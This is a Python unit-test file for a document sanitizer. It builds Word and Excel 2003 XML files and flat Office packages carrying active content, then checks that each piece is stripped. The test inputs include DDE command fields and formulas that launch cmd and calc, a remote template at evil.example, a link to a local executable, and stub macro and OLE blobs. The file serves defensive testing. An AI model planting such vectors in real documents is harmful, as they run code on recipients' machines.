"""Office documents that are one XML file: Word and Excel 2003, and flat packages."""

from __future__ import annotations

import base64

import pytest

from gateway.engines.identify import identify
from gateway.extraction import ExtractStatus, extract, survey
from tests.unit.extraction.packages import OLE

W = 'xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"'
NS = (
    f'{W} xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
DATA = base64.b64encode(b"ActiveMime" + bytes(40)).decode()


def word(body: str) -> bytes:
    return (
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        f"<w:wordDocument {NS}>{body}<w:body><w:p><w:r><w:t>Dear reader</w:t></w:r></w:p></w:body>"
        "</w:wordDocument>"
    ).encode()


def excel(body: str, cells: str = "") -> bytes:
    return (
        '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
        f"{body}<Worksheet><Table><Row>{cells}<Cell><Data>kept</Data></Cell></Row></Table>"
        "</Worksheet></Workbook>"
    ).encode()


@pytest.mark.parametrize(
    ("body", "what"),
    [
        (f'<w:docSuppData><w:binData w:name="editdata.mso">{DATA}</w:binData></w:docSuppData>',
         "VBA macros"),
        (f'<w:binData w:name="editdata.mso">{DATA}</w:binData>', "VBA macros"),
        (f'<w:docOleData><w:binData w:name="oledata.mso">{DATA}</w:binData></w:docOleData>',
         "embedded OLE objects"),
        ('<w:docPr><w:attachedTemplate w:val="http://evil.example/t.dot"/></w:docPr>',
         "remote template"),
        ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd'
         '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
         "DDE field that runs on opening"),
        ('<w:p><w:hlink w:dest="file:///c:/x.exe"><w:r/></w:hlink></w:p>',
         "link that starts a program"),
        ('<w:pict><v:shape><v:imagedata src="http://t.example/p.png"/></v:shape></w:pict>',
         "remote picture"),
    ],
)  # fmt: skip
def test_word_2003_loses_what_acts(body: str, what: str) -> None:
    data = word(body)
    assert identify(data, "letter.xml").guess.type == "ole-doc"
    made = extract(data, "ole-doc")
    assert [removal.what for removal in made.removed] == [what]
    assert made.content is not None
    assert b"Dear reader" in made.content
    assert b"mso-application" in made.content
    assert extract(made.content, "ole-doc").status is ExtractStatus.UNCHANGED


@pytest.mark.parametrize(
    ("body", "cells", "what"),
    [
        ("<SupBook><Path>cmd|/c calc</Path></SupBook>", "", "DDE link"),
        ("<SupBook><Path>c:\\b.xls</Path></SupBook>", "", "link to another workbook"),
        ("", "<Cell ss:Formula=\"=cmd|'/c calc'!A1\"><Data>7</Data></Cell>", "DDE formula"),
        ("", '<Cell ss:Formula="=[b.xls]One!R1C1"><Data>7</Data></Cell>',
         "formula over another workbook"),
        ("", '<Cell ss:Formula="=CALL(1)"><Data>7</Data></Cell>', "formula that fetches or runs"),
        ("<QueryTable/>", "", "query table"),
    ],
)  # fmt: skip
def test_excel_2003_loses_what_acts(body: str, cells: str, what: str) -> None:
    made = extract(excel(body, cells), "ole-xls")
    assert [removal.what for removal in made.removed] == [what]
    assert made.content is not None
    assert (b">7<" in made.content) == bool(cells)
    assert extract(made.content, "ole-xls").status is ExtractStatus.UNCHANGED


def test_its_own_pictures_are_no_remote_ones() -> None:
    body = '<w:pict><v:shape><v:imagedata src="wordml://1.png"/></v:shape></w:pict>'
    assert extract(word(body), "ole-doc").status is ExtractStatus.UNCHANGED


def flat(parts: str) -> bytes:
    """A package in one file; RELS and OFFICE in `parts` stand for namespaces."""
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    parts = parts.replace("RELS", rels).replace("OFFICE", office)
    rels_type = "application/vnd.openxmlformats-package.relationships+xml"
    main_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return (
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        f'<pkg:part pkg:name="/_rels/.rels" pkg:contentType="{rels_type}"><pkg:xmlData>'
        f'<Relationships xmlns="{rels}"><Relationship Id="a" Type="{office}/officeDocument" '
        'Target="word/document.xml"/></Relationships></pkg:xmlData></pkg:part>'
        f'<pkg:part pkg:name="/word/document.xml" pkg:contentType="{main_type}"><pkg:xmlData>'
        f'<w:document xmlns:w="{main}"><w:body><w:p><w:r><w:t>Dear reader</w:t></w:r></w:p>'
        f"</w:body></w:document></pkg:xmlData></pkg:part>{parts}</pkg:package>"
    ).encode()


def test_a_package_in_one_file_is_cleaned_as_one() -> None:
    assert extract(flat(""), "ole-doc").status is ExtractStatus.UNCHANGED
    ole = base64.b64encode(OLE).decode()
    acting = flat(
        '<pkg:part pkg:name="/word/_rels/document.xml.rels" pkg:contentType="application/vnd.'
        'openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="RELS">'
        '<Relationship Id="o" Type="OFFICE/oleObject" Target="embeddings/o.bin"/></Relationships>'
        '</pkg:xmlData></pkg:part><pkg:part pkg:name="/word/embeddings/o.bin" pkg:contentType='
        f'"application/vnd.openxmlformats-officedocument.oleObject"><pkg:binaryData>{ole}'
        "</pkg:binaryData></pkg:part>"
    )
    made = extract(acting, "ole-doc")
    assert [removal.what for removal in made.removed] == ["embedded OLE object"]
    assert made.content is not None
    assert b"o.bin" not in made.content
    assert b"Dear reader" in made.content
    assert extract(made.content, "ole-doc").status is ExtractStatus.UNCHANGED
    assert survey(acting, "ole-doc").payloads[0].data == OLE


def test_other_xml_is_no_document() -> None:
    assert extract(b"<a/>", "ole-doc").status is ExtractStatus.FAILED
    assert extract(b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>", "ole-doc").status is ExtractStatus.FAILED
